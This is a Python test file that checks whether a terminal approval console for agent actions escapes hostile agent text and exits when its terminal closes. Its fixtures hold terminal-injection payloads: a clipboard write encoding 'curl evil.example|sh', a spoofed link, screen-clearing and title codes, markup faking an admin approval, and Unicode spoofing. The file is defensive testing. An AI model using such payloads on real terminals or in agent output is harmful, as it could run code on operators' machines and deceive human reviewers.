"""The real app in a pseudo-terminal: hostile agent text never reaches the terminal raw, and
losing the terminal ends the app instead of leaving it spinning."""

from __future__ import annotations

import fcntl
import os
import pty
import select
import signal
import struct
import sys
import termios
import time
from pathlib import Path

from tests.helpers import ROOT, python_env

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
OSC8 = "\x1b]8;;https://evil.example\x1b\\click me\x1b]8;;\x1b\\"
CLEAR = "AAA\x1b[2JBBB"
TITLE = "\x1b]0;PWNED\x07"
MARKUP = "[@click=app.quit]free money[/] [bold green]APPROVED by admin[/]"
RTL = "invoice\u202etxt.exe"
ZW = "pay\u200bpal"

RAW_FORBIDDEN = [
    b"\x1b]52;",
    b"\x1b]8;;https://evil",
    b"AAA\x1b[2J",
    b"\x1b]0;PWNED",
    "\u202e".encode(),
    "\u200b".encode(),
]


def _spawn(args: list[str], env: dict[str, str], cols: int = 120, rows: int = 40) -> tuple[int, int]:
    pid, fd = pty.fork()
    if pid == 0:  # child: becomes the session leader with the pty as controlling terminal
        try:
            os.chdir(ROOT)
            os.execve(sys.executable, [sys.executable, *args], env)
        finally:
            os._exit(127)
    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", rows, cols, 0, 0))
    return pid, fd


def _read_until(fd: int, buf: bytearray, needle: bytes, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if needle in buf:
            return True
        ready, _, _ = select.select([fd], [], [], 0.1)
        if ready:
            try:
                chunk = os.read(fd, 65536)
            except OSError:
                return needle in buf
            if not chunk:
                return needle in buf
            buf.extend(chunk)
    return needle in buf


def _wait_exit(pid: int, timeout: float) -> int | None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            return status
        time.sleep(0.05)
    return None


def _env() -> dict[str, str]:
    env = python_env(TERM="xterm-256color", COLORTERM="truecolor", TEXTUAL_ANIMATIONS="none")
    env.pop("TEXTUAL", None)
    return env


def test_hostile_agent_text_is_escaped_on_the_wire(db_path: Path, submit) -> None:
    hostile = f"{OSC52} {OSC8} {CLEAR} {TITLE} {MARKUP} {RTL} {ZW}"
    submit({
        "id": "e" * 32,
        "function": "transfer_funds" + TITLE,
        "agent": "evil" + CLEAR,
        "value": 10,
        "reason": "reason " + MARKUP,
        "arguments": {"memo": hostile, "k" + OSC52: 1},
        "context": {"note": RTL + OSC8},
    })
    pid, fd = _spawn(["-m", "sentinel_tui", "--db", str(db_path)], _env())
    out = bytearray()
    try:
        # The card paints the escaped clear-screen sequence as visible text.
        assert _read_until(fd, out, b"AAA\\x1b[2JBBB", 30), out[-2000:]
        assert _read_until(fd, out, b"free money[/]", 5)
        time.sleep(0.5)
        _read_until(fd, out, b"\x00never", 0.5)
        os.write(fd, b"q")
        assert _wait_exit(pid, 15) is not None, "app did not quit on q"
        _read_until(fd, out, b"\x00never", 0.5)
    finally:
        try:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        except (ProcessLookupError, ChildProcessError):
            pass
        os.close(fd)
    for seq in RAW_FORBIDDEN:
        assert seq not in out, f"raw {seq!r} reached the terminal"
    # Markup in agent text is shown literally, never interpreted (no hidden action span).
    assert b"[@click=app.quit]" in out
    assert b"\\u202e" in out and b"\\x1b]52;" in out


def test_closed_terminal_ends_the_app(db_path: Path) -> None:
    pid, fd = _spawn(["-m", "sentinel_tui", "--db", str(db_path)], _env(), 80, 24)
    out = bytearray()
    try:
        assert _read_until(fd, out, b"pending", 30), out[-2000:]
        os.close(fd)  # the SSH connection drops: the kernel hangs up the terminal
        fd = -1
        status = _wait_exit(pid, 15)
        assert status is not None, "app kept running after its terminal went away"
    finally:
        if fd >= 0:
            os.close(fd)
        try:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        except (ProcessLookupError, ChildProcessError):
            pass


def test_e_opens_the_rules_file_in_the_editor_and_the_app_resumes(db_path: Path, tmp_path: Path) -> None:
    from sentinel_tui.sample import SAMPLE_RULES

    rules = tmp_path / "rules.yaml"
    rules.write_text(SAMPLE_RULES)
    env = _env()
    # The "editor" appends a YAML comment to the file it is given, then exits.
    env["EDITOR"] = "sh -c 'echo \"# edited by the operator\" >> \"$0\"'"
    env.pop("VISUAL", None)
    pid, fd = _spawn(["-m", "sentinel_tui", "--db", str(db_path), "--rules", str(rules)], env)
    out = bytearray()
    try:
        assert _read_until(fd, out, b"pending", 30)
        os.write(fd, b"4")
        assert _read_until(fd, out, b"valid, 4 rules", 30), out[-1500:]
        os.write(fd, b"e")
        deadline = time.monotonic() + 30
        while "# edited by the operator" not in rules.read_text() and time.monotonic() < deadline:
            _read_until(fd, out, b"\x00never", 0.1)
        assert "# edited by the operator" in rules.read_text()
        # Resumed: the app reloads the edited file and says so on screen.
        assert _read_until(fd, out, b"Rules reloaded", 30), out[-1500:]
        os.write(fd, b"q")
        assert _wait_exit(pid, 15) is not None, "the app did not resume after the editor"
    finally:
        try:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        except (ProcessLookupError, ChildProcessError):
            pass
        os.close(fd)
